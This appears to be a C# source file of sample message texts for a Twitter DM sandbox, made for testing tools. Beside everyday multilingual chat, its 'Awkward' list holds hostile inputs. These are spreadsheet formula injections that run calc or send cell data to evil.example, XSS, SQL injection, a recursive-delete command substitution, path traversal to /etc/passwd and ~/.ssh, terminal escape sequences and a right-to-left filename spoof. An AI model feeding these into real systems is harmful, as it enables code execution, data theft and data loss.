using TwitterDm.Sandbox.Model;

namespace TwitterDm.Sandbox.World;

/// <summary>The texts of generated messages: everyday ones, and those that careless tools cannot handle.</summary>
internal static class SampleTexts
{
    private const int MaxLength = 10_000;

    private static readonly Dictionary<string, string> Links = new(StringComparer.Ordinal)
    {
        ["https://t.co/rUnb00k001"] = "https://wiki.example.com/runbooks/restart?service=mail&step=2",
        ["https://t.co/d4shb0ard2"] = "https://status.example.com/dashboard#today",
        ["https://t.co/m33tingN03"] = "https://meet.example.com/ops-weekly",
    };

    /// <summary>
    /// What people write every day. The newest messages of an account are among these, so that a first look at the sandbox shows a usual
    /// inbox.
    /// </summary>
    public static readonly IReadOnlyList<MessageText> Everyday = [.. Ordinary().Select(text => MessageText.Of(text, Links))];

    public static readonly IReadOnlyList<MessageText> Common = [.. All().Select(text => MessageText.Of(text, Links))];

    /// <summary>The same as their authors typed them, with long links.</summary>
    public static readonly IReadOnlyList<string> Typed =
        [.. All().Select(text => Links.Aggregate(text, (typed, link) => typed.Replace(link.Key, link.Value, StringComparison.Ordinal)))];

    /// <summary>A text of the maximum length.</summary>
    public static readonly MessageText Long = MessageText.Of(Repeat("All logs of last night, in one message. Líneas, línies, Zeilen, 行. "));

    /// <summary>Texts that link to a post, one for each of <see cref="SamplePosts.All"/>.</summary>
    public static readonly IReadOnlyList<MessageText> AboutPosts = [.. SamplePosts.All.Select(post => MessageText.Of(
        $"Have you seen this one? {post.ShortUrl}",
        new Dictionary<string, string>(StringComparer.Ordinal) { [post.ShortUrl] = post.Url }))];

    private static IEnumerable<string> All() => Ordinary().Concat(Irregular()).Concat(Awkward());

    private static IEnumerable<string> Ordinary() =>
    [
        "Good morning! Is the backup through?",
        "Yes, 02:14, no errors.",
        "Could you look at mail-03 when you have a minute? The queue is at 4,211.",
        "On it.",
        "Restarted, see https://t.co/rUnb00k001 for what I did.",
        "Dashboards: https://t.co/d4shb0ard2 and the call: https://t.co/m33tingN03",
        "Thanks \U0001F64F",
        "\U0001F44D\U0001F3FD",
        "Who is on call tonight? @support_desk or @zoe_muller ?",
        "The certificate of the VPN ends on Friday. #security #todo_friday",
        "Danke, das war schnell!",
        "Grüße aus Zürich, der Fußball läuft \u26BD",
        "¿Puedes reiniciar el servicio mañana a las 8?",
        "Le café est prêt, à tout de suite.",
        "Zażółć gęślą jaźń",
        "了解しました。午後に確認します。",
        "서버 점검이 끝났습니다.",
        "Сервер снова доступен.",
        "शुभ प्रभात! बैकअप पूरा हुआ?",
    ];

    private static IEnumerable<string> Irregular() =>
        [
            "The family plan \U0001F468\u200D\U0001F469\u200D\U0001F467\u200D\U0001F466 is what we need, said \U0001F9D1\U0001F3FE\u200D\U0001F4BB",
            "Offices: \U0001F1E9\U0001F1EA \U0001F1EF\U0001F1F5 \U0001F1E7\U0001F1F7 \U0001F3F4\U000E0067\U000E0062\U000E0073\U000E0063\U000E0074\U000E007F",
            "I'd say \u201Cship it\u201D \u2014 it's O'Brien's call, though\u2026",
            "Agenda:\n1. incidents\n2. patches\n3. lunch",
            "host\tcpu\tmem\nmail-03\t97 %\t81 %",
            "Windows line ends\r\nare still a thing.",
            "He said \"no\", then \"maybe, later\", then nothing.",
            "a,b;c|d \\ e / f & g < h > i",
            "   leading and trailing spaces   ",
            "ok",
            "?",
        ];

    private static IEnumerable<string> Awkward() =>
    [
        "السيرفر يعمل الآن، شكراً لك!",
        "השרת חזר לעבוד, תודה רבה (v2.1).",
        "Mixed: abc אבג 123 عربي xyz",
        "The file is invoice\u202Efdp.exe, open it",
        "\u2067isolated \u2066text\u2069\u2069 and \u202Aembedded\u202C",
        "zero\u200Bwidth\uFEFFspaces and soft\u00ADhyphen",
        "\u001B[31mred alert\u001B[0m \u001B[2J\u001B[H gone",
        "\u001B]0;your title is mine\u0007 hello",
        "\u001B]8;;https://evil.example/\u001B\\click\u001B]8;;\u001B\\",
        "bell \u0007 backspace \b\b\b form feed \f vertical \v delete \u007F C1 \u009B31m",
        "over\rwritten",
        "line\u2028separator\u2029paragraph\u0085next",
        "=HYPERLINK(\"https://evil.example/?q=\"&A1,\"Click me\")",
        "+1",
        "-1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "<script>alert('hi')</script><img src=x onerror=alert(1)>",
        "</td></tr></table> & &amp; &lt;b&gt;",
        "| a | b |\n| --- | --- |\n[link](javascript:alert(1)) `code` *bold* # no heading",
        "$(Remove-Item -Recurse .) `whoami` ${env:PATH} %PATH% !!",
        "'; DROP TABLE messages; --",
        "{\"json\": [1, 2, {\"data\": null}], \"next_token\": \"not one\"}",
        "../../etc/passwd C:\\CON.txt ~/.ssh",
        "Zalgo: t\u0336\u0321\u031B\u0355e\u0335\u0328\u0320x\u0334\u0327t\u0337",
        "e\u0301 is not \u00E9, and \u212B is not \u00C5",
        "fullwidth １２３ and ﷽",
    ];

    private static string Repeat(string text) => string.Concat(Enumerable.Repeat(text, (MaxLength / text.Length) + 1))[..MaxLength];
}
